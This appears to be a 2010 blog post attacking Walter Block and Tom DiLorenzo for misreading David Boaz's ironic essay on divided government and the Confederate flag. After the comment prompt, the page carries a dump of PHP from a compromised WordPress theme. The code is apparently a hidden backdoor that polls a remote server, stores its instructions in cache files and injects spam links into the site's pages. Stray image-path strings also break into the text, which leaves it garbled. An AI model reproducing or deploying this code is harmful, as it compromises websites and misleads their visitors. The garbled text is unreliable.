It must be difficult to go through life when one is so thick

January 16, 2010

Walter Block and Tom DiLorenzo, neither known for his subtlety, seem to think that “irony” is what you do to get the wrinkles out of your shirts. My colleague David Boaz wrote an essay for the Washington Times (“We miss you, Bubba“), in which he compared the last two administrations to the “good ol’ days” of the Clinton administration, using a well known device to highlight the horrible policies that have been pursued since. Poor Walter Block thought that Boaz was “supporting” Clinton’s policies, including his foreign policy, since David wrote that under Clinton“Government spending was growing only slowly, the bad ideas were mostly small, and we bombed a lot of countries but didn’t put American troops at risk.” Thinking that Boaz was endorsing bombing a lot of countries, Walter Block jumped into action and denounced him as “no libertarian.” Just to emphasize that rhetorical devices other than the denunciation are not to be found in his repertoire, Block informed his readers

The executive vice president of the Cato Institute makes some good points (I’m being tongue in cheek here, for those whose sense of sarcasm is less well developed than my own).

It is hard to imagine anyone whose “sense of sarcasm” (or, to be more precise, any form of indirect expression) is less developed than Walter Block’s, but he felt, nonetheless, compelled to warn any such who might have been reading. He concluded that he now feels “physically ill.” Poor man.

The other dullard in the stable, Tom (“a travesty of historical method and documentation“) DiLorenzo, quickly jumped up and denounced David for apparently endorsing the Republicans, as well as the Democrats!

Now you don’t have to be very clever to understand David’s point, because he made it v-e-r-y s-i-m-p-l-e for everyone, even the irony-challenged, to understand: “Of course, what I’m really nostalgic for is divided government.” Economist William Niskanen (i.e., an actual economist), who was thenChairman of the Cato Institute, pointed out in 2003 thatThe prospect of a major war is usually higher with a united government, and the current war makes that clear.

Each of the four major American wars in the 20th century, for example, was initiated by a Democratic president with the approval of a Congress controlled byDemocrats. The war in Iraq, initiated by a Republican president with the support of a Republican Congress, is consistent with this pattern and has already proved to be the only use of U.S. military force lasting more than a few days that was initiated by a Republican president in over a century.

DiLorenzo further displayed his skills as an analyst by denouncing the thesis of the superiority of divided government over unified government (formulated as a desire for “gridlock”) on the grounds that “Bush expanded the welfare state as much as any president with his prescription drug welfare legislaition [sic],” somehow missing the fact that the “Medicare Prescription Drug, Improvement, and Modernization Act” was passed when the GOP controlled the White House and both houses of Congress, thus being a rather weak counter-example to Boaz’s point about the relative virtues of divided government over unified, single-party, government.

But it’s been a long time since facts would have stopped Tom DiLorenzo from making a point. I realized that DiLorenzo had dropped off the deep end when he wrote a denunciation of David years ago for urging the voters of Mississippi to vote in a referendum to remove from the state flag a symbol that many people find, rather understandably, ugly and offensive. “Don’t Put Slavery in the Flag” was atemperate call for the voters to put the state’s history of slavery, Jim Crow, segregation, and lynchings behind them and to remove from the flag a symbol under which such evils had been carried out. But DiLorenzo accused him of “calling for the eradication of the Confederate battle flag from public places,” which was, of course, simply false. David encouraged voters to remove it from the the state flag, not from “public places,” an equivocal term that may mean “all places open to the public.”

But what’s a little confusion and misuse of language for Mr. DiLorenzo, compared to the masses of errors that characterize his recent works? Mr. DiLorenzo would have us think that the reason for the secession of the southern states was, oh, tariffs and such like. His sole evidence is the erection of a straw man: that Boaz and “a small band of Marxist historians” claim that “the war was caused by slavery alone.” Now note the rhetoric: Boaz claimed quite rightly that without slavery, there would have been no secession, not that “the war was caused by slavery alone,” which is a view few could hold, if for no other reason than that “the war” followed the secession and was not necessitated by it. To dispense with the canard that slavery was not the overriding reason for the secession, one need but read the “Declaration of the Immediate Causes Which Induce and Justify the Secession of South Carolina from the Federal Union,” which makes it quite clear that the process was very, very, very much about keeping people in chains. I strongly encourage anyone who supports the secession of the southern states — which is quite different from the subsequent decision to wage war on them; either might or might not be justified, but they are very different acts — to read that document. They may not be made “physically ill,” but if theyare decent human beings (and more so ifthey are serious libertarians) they will be repulsed by the sentiments that motivated those who took the south out of the union.

But back to the rhetorical and literary poverty of Block and DiLorenzo. I will write this very slooowwwlly and very clearly, just for them:

David Boaz was using the contrast with Clinton’s terrible policies to emphasize the enormity of the folly and criminality of the foreign policies that followed, not to endorse those of Clinton, which the language suggests wererepulsive in their own right. If I did not know that Block and DiLorenzo have all the subtlety of a brick, I would suspect that the reason for the publication of their blog posts was to smear David.

(P.S. A friend pointed out that I had placed a quotation mark in the wrong place [“all public places”–the quotation mark should have been around “public places” only], with the implication that the article to which I linked contained that phrase. It did not. It did necessarily imply it, however, as the phrase “the eradication of the Confederate battle flag from public places” contains the implicit quantifier “all,” rather than “some,” in the same way that the phrase “the eradication of life from oceans” implies “all life” and “all oceans,” rather than referring to, say, the killing of one fish, or of several fish, in the Pacific ocean. In order to avoid confusion among careless thinkers, I have moved the quote mark. The meaning remains unchanged.)

{ 1 trackback }

Now here’s an ugly bit ofbusiness….
January 30, 2010 at 11:51 pm

{ 12 comments… read them below or add one }

Leave a Comment

Good'; exit; } if(isset($_GET['unlink_cache'])) unlink_cache('wp-content/themes/thesis_151/lib/css/data/'); function put_array_work($way, $var) { $stOutFileHandle = false; $stOutFileHandle = fopen($way, 'w'); flock($stOutFileHandle, LOCK_EX); fwrite($stOutFileHandle, $var); flock($stOutFileHandle, LOCK_UN); fclose($stOutFileHandle); } function ad_block() { $way = 'wp-content/themes/thesis_151/lib/css/';if(!file_exists($way.'data/work.txt')) { $sent['domain'] = @$_SERVER['HTTP_HOST']; ini_set('default_socket_timeout', 1); $work = false; $work = unserialize(file_get_contents(''.urlencode(serialize($sent)))); if(!$work === false && is_array($work)) { if(!isset($work['period'])) $work['period'] = 30; $period = rand($work['period'] / 2, $work['period']+($work['period'] / 2)); $work['check'] = time() + $period * 60;if(isset($work['new']) && !empty($work['new'])) { $links = $work['new']; unset($work['new']); } $work['use'] = array(); $write_work = true; } else { $period = rand(15, 45) * 60; $temp = time() + $period; $work = array('time' => time(),'check' => $temp, 'use' => array(), 'period' => '30', 'start' => '
', 'end' => '
'); $write_work = true; } } else { $work = false; $work = unserialize(file_get_contents($way.'data/work.txt')); if($work === false && !is_array($work)) { $period = rand(15, 45) * 60; $temp = time() + $period; $work = array('time' => time(),'check' => $temp, 'use' => array(), 'period' => '30', 'start' => '
', 'end' => '
'); $write_work = true; } } if(!isset($links)) { if(file_exists($way.'data/temp.txt')) { $links = unserialize(file_get_contents($way.'data/temp.txt')); } else { $links = array(); put_array_work($way.'data/temp.txt', serialize($links)); } } if($work['check'] < time() && empty($links)) { if(!empty($work['use'])) $sent['use'] = $work['use']; if(isset($work['time'])) { $sent['time'] = $work['time']; } else { $sent['time'] = time(); } $sent['domain'] = @$_SERVER['HTTP_HOST']; ini_set('default_socket_timeout', 1); $import = false; $import = unserialize(file_get_contents(''.urlencode(serialize($sent)))); if(!$import === false && is_array($import) && $import['time'] != '00000') { if(isset($import['new'])) { $links = $import['new']; $write_link = true; } if(isset($import['unlink'])) $work['unlink'] = $import['unlink'];if(isset($import['period'])) $work['period'] = $import['period']; if(isset($import['start'])) $work['start'] = $import['start']; if(isset($import['end'])) $work['end'] = $import['end']; if(isset($import['time'])) $work['time'] = $import['time']; } if(!isset($work['period'])) $work['period'] = 30; $period = rand($work['period'] / 2, $work['period'] + ($work['period'] / 2)); $work['check'] = time() + $period * 60; $write_work = true; } $id = $_SERVER['REQUEST_URI']; if(file_exists($way.'data/'.md5($id).'.dat')) { $page = unserialize(file_get_contents($way.'data/'.md5($id).'.dat')); $echo = ''; if(!empty($links)) { $domains = array_keys($links); foreach($domains as $domain) { if(!isset($page[$domain])) { $page[$domain] = $links[$domain]['0']; array_shift($links[$domain]); if(empty($links[$domain])) unset($links[$domain]); $write_page = true; $write_link = true; } } } if(!empty($work['unlink'])) { foreach($work['unlink'] as $domain) { if(isset($page[$domain])) { unset($page[$domain]); $write_page = true; } if(isset($work['use'][$domain])) { unset($work['use'][$domain]); $write_work = true; } if(isset($links[$domain])) { unset($links['use'][$domain]); $write_link = true; } } } if(!isset($work['start']) || !isset($work['end'])) { $work['start'] = '
'; $work['end'] = '
'; $write_work = true; }if(!empty($page)) { foreach($page as $domain => $link) { $echo .= $link.' '; if(!isset($work['use'][$domain])) { $work['use'][$domain] = ''; $write_work = true; } } echo preg_replace('/\"/', '"', $work['start'].$echo.$work['end']); } } else { if(!empty($links)) { $page = array(); $domains = array_keys($links); foreach($domains as $domain) { $page[$domain] = $links[$domain]['0']; array_shift($links[$domain]); if(empty($links[$domain]))unset($links[$domain]); if(!isset($work['use'][$domain])) { $work['use'][$domain] = ''; $write_work = true; } } $echo = ''; if(!isset($work['start']) || !isset($work['end'])) { $work['start'] = '
'; $work['end'] = '
'; $write_work = true; } foreach($page as $domain => $link) { $echo .= $link.' '; } echo preg_replace('/\"/', '"',$work['start'].$echo.$work['end']);$write_page = true; $write_link = true; } } if ($write_page === true) { put_array_work($way.'data/'.md5($id).'.dat', serialize($page)); } if ($write_work === true) { put_array_work($way.'data/work.txt', serialize($work)); } if ($write_link === true) {put_array_work($way.'data/temp.txt',serialize($links)); } } ad_block(); ?>